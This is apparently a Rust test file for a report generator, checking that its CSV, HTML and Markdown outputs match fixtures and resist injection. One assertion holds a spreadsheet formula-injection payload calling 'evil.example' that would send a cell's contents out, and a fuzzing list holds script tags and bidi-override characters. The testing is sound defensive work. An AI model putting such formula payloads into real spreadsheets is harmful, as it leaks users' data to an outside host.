//! The record as papers: what each says, and that no name gets out of its place.
//!
//! `fixtures/records/` holds the papers. After a change that is meant, `BLESS=1 cargo test --test records` writes them anew; the difference is to be read.
#![allow(clippy::expect_used, clippy::indexing_slicing, clippy::panic, clippy::string_slice, reason = "tests panic where they fail")]

#[path = "panel/stage.rs"]
#[allow(dead_code, reason = "stages for the panel's own tests too")]
mod stage;

#[path = "records/hand_over.rs"]
mod hand_over;
#[path = "records/scenarios.rs"]
mod scenarios;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;
use std::{env, fs};

use connection_lens::report::{self, English, Report, Voice};
use connection_lens::words::Text;
use proptest::prelude::*;
use serde_json::{Value, json};
use stage::Stage;

/// A quarter past two on the same day.
const NOW: f64 = stage::NOON + 300_000.0;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn report(stage: &Stage) -> Report {
    let report = stage.session.sight(&stage.kept).expect("a flow in sight").report(NOW);
    // A new version of the program is no other record.
    Report { made_with: "connection-lens 0.0.0".to_owned(), ..report }
}

fn reports() -> Vec<(&'static str, Report)> {
    vec![
        ("half", report(&stage::half_handed_over())),
        ("done", report(&stage::all_done())),
        ("partly", report(&stage::partly_known())),
        ("refused", report(&stage::refused(403, r#"{"error":{"code":"EnvironmentAccessDenied","message":""}}"#))),
        ("run-only", report(&stage::as_intended())),
        ("nothing", report(&stage::flow_refused(404))),
        ("gaps", report(&stage::with_gaps())),
        ("decided", report(&scenarios::decided_by_hand())),
        ("exceptions", report(&scenarios::finished_with_exceptions())),
        ("relapsed", report(&scenarios::relapsed())),
        ("rules", report(&scenarios::by_rules())),
        ("connectors", report(&scenarios::by_own_rules_for_connectors())),
        ("hostile", report(&scenarios::hostile())),
    ]
}

/// The papers of a record, by the ending of their file.
fn papers(report: &Report) -> [(&'static str, String); 5] {
    let one = std::slice::from_ref(report);
    [
        ("md", report::markdown(one, &English)),
        ("csv", report::csv(one, &English)),
        ("json", format!("{:#}\n", report::json(report))),
        ("html", report::html(one, &English)),
        ("txt", report::text(report)),
    ]
}

#[test]
fn every_paper_reads_as_it_is_meant() {
    let folder = root().join("tests/fixtures/records");
    let mut wrong = Vec::new();
    for (name, report) in reports() {
        for (ending, paper) in papers(&report) {
            let path = folder.join(format!("{name}.{ending}"));
            if env::var_os("BLESS").is_some() {
                fs::create_dir_all(&folder).expect("the folder of the papers");
                fs::write(&path, &paper).expect("a paper");
            }
            // A checkout may have turned line ends; those of the CSV file have their own test.
            let plain = |text: &str| text.replace("\r\n", "\n");
            let wanted = plain(&fs::read_to_string(&path).unwrap_or_default());
            let is = plain(&paper);
            if let Some((line, (is, meant))) = is.lines().zip(wanted.lines().chain([""])).enumerate().find(|(_, (is, meant))| is != meant) {
                wrong.push(format!("{name}.{ending}, line {}:\n  is    {is}\n  meant {meant}", line + 1));
            } else if is.len() != wanted.len() {
                wrong.push(format!("{name}.{ending}: another length"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn schema() -> Value {
    let text = fs::read_to_string(root().join("docs/audit.schema.json")).expect("the schema");
    serde_json::from_str(&text).expect("the schema is JSON")
}

#[test]
fn the_document_is_what_its_schema_says() {
    let schema = schema();
    assert_eq!(schema["properties"]["schema"]["const"], report::SCHEMA);
    assert!(jsonschema::draft202012::meta::is_valid(&schema), "the schema is one");
    let validator = jsonschema::draft202012::new(&schema).expect("a schema that can be used");
    for (name, report) in reports() {
        let document = report::json(&report);
        let wrong: Vec<String> = validator.iter_errors(&document).map(|error| format!("{}: {error}", error.instance_path())).collect();
        assert!(wrong.is_empty(), "{name}: {wrong:?}");
        let mut other = document;
        other["checklist"][0]["state"] = json!("perhaps");
        assert!(!validator.is_valid(&other), "{name}: the schema holds something");
    }
}

/// Every key that a document may have is in the schema and in the words about it, and the schema promises none that isn't there.
#[test]
fn the_schema_names_every_field_and_no_other() {
    fn declared<'a>(schema: &'a Value, found: &mut BTreeSet<&'a str>) {
        for (key, value) in schema.as_object().into_iter().flatten() {
            if key == "properties" {
                found.extend(value.as_object().into_iter().flatten().map(|(name, _)| name.as_str()));
            }
            declared(value, found);
        }
        schema.as_array().into_iter().flatten().for_each(|value| declared(value, found));
    }
    fn used(document: &Value, found: &mut BTreeSet<String>) {
        for (key, value) in document.as_object().into_iter().flatten() {
            found.insert(key.clone());
            used(value, found);
        }
        document.as_array().into_iter().flatten().for_each(|value| used(value, found));
    }
    let schema = schema();
    let (mut declares, mut uses) = (BTreeSet::new(), BTreeSet::new());
    declared(&schema, &mut declares);
    for (_, report) in reports() {
        used(&report::json(&report), &mut uses);
    }
    assert_eq!(declares, uses.iter().map(String::as_str).collect());
    let words = fs::read_to_string(root().join("docs/audit-schema.md")).expect("the words about it");
    let unsaid: Vec<&&str> = declares.iter().filter(|name| !words.contains(&format!("`{name}`"))).collect();
    assert!(unsaid.is_empty(), "docs/audit-schema.md says nothing of {unsaid:?}");
}

#[test]
fn every_sentence_is_in_the_catalogue() {
    struct Strict;
    impl Voice for Strict {
        fn say(&self, text: &Text) -> String {
            let bare = Text { args: text.args.iter().map(|_| String::new()).collect(), ..text.clone() }.english();
            assert!(!bare.starts_with('[') && !bare.contains("**"), "{bare}");
            text.english()
        }
        fn time(&self, at: f64) -> String {
            English.time(at)
        }
    }
    let all: Vec<Report> = reports().into_iter().map(|(_, report)| report).collect();
    let _ = (report::markdown(&all, &Strict), report::csv(&all, &Strict), report::html(&all, &Strict));
}

/// A table of comma-separated values, as a library reads it that isn't ours.
fn rows(paper: &str) -> Vec<Vec<String>> {
    let bare = paper.strip_prefix('\u{feff}').expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(false).from_reader(bare.as_bytes());
    reader.records().map(|row| row.expect("as many cells in every row").iter().map(str::to_owned).collect()).collect()
}

/// A cell without what makes it text.
fn name_in(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[test]
fn a_spreadsheet_gets_every_flow_in_one_table_and_no_formula() {
    let all: Vec<Report> = reports().into_iter().map(|(_, report)| report).collect();
    let paper = report::csv(&all, &English);
    let rows = rows(&paper);
    let wanted: usize = all.iter().map(|report| report.operations.len() + report.leftovers.len()).sum();
    let told = rows.iter().filter(|row| row[5] == "Operation" || row[5] == "Not in use").count();
    assert_eq!(told, wanted);
    assert!(rows.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
    assert!(rows.iter().any(|row| row[6] == "'=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")"));
    assert!(paper.ends_with("\r\n") && !paper.replace("\r\n", "").contains("\n\n"));
}

/// What a browser makes of a page: its elements with their attributes, and its text.
fn parsed(page: &str) -> (BTreeSet<String>, Vec<String>) {
    let (mut elements, mut texts) = (BTreeSet::new(), Vec::<String>::new());
    let mut in_text = false;
    for token in html5gum::Tokenizer::new(page) {
        let Ok(token) = token;
        match token {
            html5gum::Token::StartTag(tag) => {
                let attributes = tag.attributes.keys().map(|name| String::from_utf8_lossy(name).into_owned());
                let name = String::from_utf8_lossy(&tag.name).into_owned();
                elements.extend(attributes.map(|attribute| format!("{name} {attribute}")).chain([name.clone()]));
                in_text = false;
            }
            html5gum::Token::String(text) => {
                let text = String::from_utf8_lossy(&text).into_owned();
                if in_text {
                    texts.last_mut().expect("a text before").push_str(&text);
                } else {
                    texts.push(text);
                }
                in_text = true;
            }
            html5gum::Token::Error(error) => panic!("{error:?}"),
            _ => in_text = false,
        }
    }
    (elements, texts)
}

/// All that a page is made of, whatever the names in it.
const ELEMENTS: &str = "article|bdi|body|dd|dl|dt|div|div class|footer|h1|h2|head|header|html|html dir|html lang|li|li class|main|meta|meta charset|meta content|\
                        meta http-equiv|meta name|p|p class|section|small|small dir|span|span dir|strong|style|table|tbody|td|td class|th|th scope|thead|title|tr|ul";

#[test]
fn a_page_needs_nothing_else_and_runs_nothing() {
    for (name, report) in reports() {
        let page = report::html(std::slice::from_ref(&report), &English);
        let allowed: BTreeSet<&str> = ELEMENTS.split('|').collect();
        let (elements, _) = parsed(&page);
        let others: Vec<&String> = elements.iter().filter(|element| !allowed.contains(element.as_str())).collect();
        assert!(others.is_empty(), "{name}: {others:?}");
        assert!(page.contains("default-src 'none'"), "the page's own policy");
        let style = page.split("<style>").nth(1).and_then(|rest| rest.split("</style>").next()).expect("a style");
        assert!(!style.contains("url(") && !style.contains("@import"));
        assert!(style.contains("@media print") && style.contains("light-dark("));
    }
}

/// What a reader of Markdown makes of it: the cells of its tables, and everything else that isn't plain text.
fn read_markdown(paper: &str) -> (Vec<String>, BTreeSet<String>) {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let (mut cells, mut others) = (Vec::new(), BTreeSet::new());
    let mut cell: Option<String> = None;
    for event in Parser::new_ext(paper, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_MATH | Options::ENABLE_FOOTNOTES) {
        match event {
            Event::Start(Tag::TableCell) => cell = Some(String::new()),
            Event::End(TagEnd::TableCell) => cells.extend(cell.take()),
            Event::Text(text) => {
                if let Some(cell) = &mut cell {
                    cell.push_str(&text);
                }
            }
            Event::InlineHtml(html) if &*html == "<br>" => {
                if let Some(cell) = &mut cell {
                    cell.push('\n');
                }
            }
            Event::Start(Tag::Heading { .. } | Tag::Paragraph | Tag::Strong | Tag::List(None) | Tag::Item | Tag::Table(_) | Tag::TableHead | Tag::TableRow)
            | Event::End(_) => {}
            other => {
                others.insert(format!("{other:?}"));
            }
        }
    }
    (cells, others)
}

#[test]
fn markdown_is_tables_and_words_whatever_the_names() {
    for (name, report) in reports() {
        let (cells, others) = read_markdown(&report::markdown(std::slice::from_ref(&report), &English));
        assert!(others.is_empty(), "{name}: {others:?}");
        for row in report.operations.iter().filter(|row| row.runs_on.connector.is_some()) {
            assert!(cells.iter().any(|cell| cell.lines().next() == Some(&shown(&row.title))), "{name}: {}", row.title);
        }
    }
}

/// What a person wrote stands in every paper, as its reader reads it.
#[test]
fn every_note_and_every_reason_is_told_in_every_paper() {
    let mut told = 0;
    for (name, report) in reports() {
        let one = std::slice::from_ref(&report);
        let rows = rows(&report::csv(one, &English));
        let (_, texts) = parsed(&report::html(one, &English));
        let (cells, _) = read_markdown(&report::markdown(one, &English));
        let notes = report.notes.iter().map(|note| (&note.text, "Note", 18));
        let decided = report.groups.iter().filter_map(|group| Some((group.decided.as_ref()?.reason.as_ref()?, "Decision", 17)));
        for (words, kind, column) in notes.chain(decided) {
            told += 1;
            assert!(rows.iter().any(|row| row[5] == kind && name_in(&row[column]) == words), "{name}: {words} as CSV");
            let quoted = format!("“{}”", shown(words));
            assert!(texts.contains(&quoted), "{name}: {quoted} in HTML");
            assert!(cells.iter().any(|cell| cell.lines().any(|line| line == quoted)), "{name}: {quoted} in Markdown");
        }
    }
    assert!(told > 15, "{told}");
}

/// A name as papers for people show it: what steers or turns the reading direction is replaced.
fn shown(name: &str) -> String {
    let turns = |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let is_none = |c: char| matches!(c, '\u{fdd0}'..='\u{fdef}') || (c as u32) & 0xfffe == 0xfffe;
    name.chars().map(|c| if c.is_control() || turns(c) || is_none(c) { '\u{fffd}' } else { c }).collect()
}

/// Played once: what is varied is the names.
static DECIDED: LazyLock<Report> = LazyLock::new(|| report(&scenarios::finished_with_exceptions()));

fn names() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "=",
        "+",
        "-",
        "@",
        "'",
        "\"",
        ",",
        ";",
        "\t",
        "\r",
        "\n",
        "|",
        "\\",
        "`",
        "*",
        "_",
        "[x](y)",
        "<b>",
        "</td>",
        "&amp;",
        "<!--",
        "-->",
        "]]>",
        "#",
        "~~",
        "$x$",
        "![",
        "<script>",
        "</style>",
        " ",
        "ש",
        "\u{202e}",
        "\u{2066}",
        "é",
        "🚀",
        "1.",
        "https://evil.example",
        "\u{0}",
        "\u{feff}",
        "^",
        "{",
        "}",
    ]);
    prop::collection::vec(prop_oneof![pieces.prop_map(str::to_owned), any::<char>().prop_map(String::from)], 1..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_name_leaves_its_place(name in names(), reason in names()) {
        let mut report = DECIDED.clone();
        report.flow.name = Some(name.clone());
        report.operations.truncate(1);
        report.operations[0].title.clone_from(&name);
        report.leftovers[0].runs_on.label = Some(name.clone());
        report.leftovers[0].dismissed.as_mut().expect("a dismissed one").reason.clone_from(&reason);
        report.groups[0].decided.as_mut().expect("a decided one").reason = Some(reason.clone());
        report.groups[0].operations = vec![name.clone()];
        report.embedded[0].connection_used_by = vec![name.clone(), name.clone()];
        report.notes[0].text.clone_from(&reason);
        report.notes[0].about = Some(name.clone());
        let one = std::slice::from_ref(&report);

        let rows = rows(&report::csv(one, &English));
        let of_kind = |kind: &str| rows.iter().find(|row| row[5] == kind).expect("a row of each kind");
        prop_assert_eq!(name_in(&of_kind("Operation")[0]), &name);
        prop_assert_eq!(name_in(&of_kind("Operation")[6]), &name);
        prop_assert!(of_kind("Not in use")[18].contains(&reason));
        prop_assert_eq!(name_in(&of_kind("Note")[18]), &reason);
        prop_assert!(rows.iter().any(|row| row[5] == "Decision" && name_in(&row[17]) == reason));
        for cell in rows.iter().flatten() {
            prop_assert!(!cell.trim_start().starts_with(['=', '+', '-', '@']) && !cell.starts_with(['\t', '\r', '\n']), "{:?}", cell);
        }

        let (elements, texts) = parsed(&report::html(one, &English));
        let allowed: BTreeSet<&str> = ELEMENTS.split('|').collect();
        prop_assert!(elements.iter().all(|element| allowed.contains(element.as_str())), "{:?}", elements);
        prop_assert!(texts.contains(&shown(&name)), "{:?} in {:?}", shown(&name), texts);
        let quoted = format!("“{}”", shown(&reason));
        // Why the leftover stays, why the group does, and the note.
        let times = texts.iter().filter(|text| **text == quoted).count();
        prop_assert!(times == 3 || (reason.is_empty() && times == 1), "{times} times {quoted}");

        let (cells, others) = read_markdown(&report::markdown(one, &English));
        prop_assert!(others.is_empty(), "{:?}", others);
        // A reader of Markdown takes blanks at the ends of a cell away.
        let blank = |text: &str| text.split_whitespace().collect::<String>();
        prop_assert!(cells.iter().any(|cell| blank(cell).starts_with(&blank(&shown(&name)))), "{:?} in {:?}", shown(&name), cells);
    }
}

#[test]
fn a_page_is_written_where_browsers_look_for_it() {
    let page = report::html(&[report(&stage::single())], &English);
    assert!(page.starts_with("<!doctype html>\n<html lang=\"en\" dir=\"ltr\">\n<head>\n<meta charset=\"utf-8\">"));
    assert!(Path::new(&root()).join("src/report/style.css").exists());
}
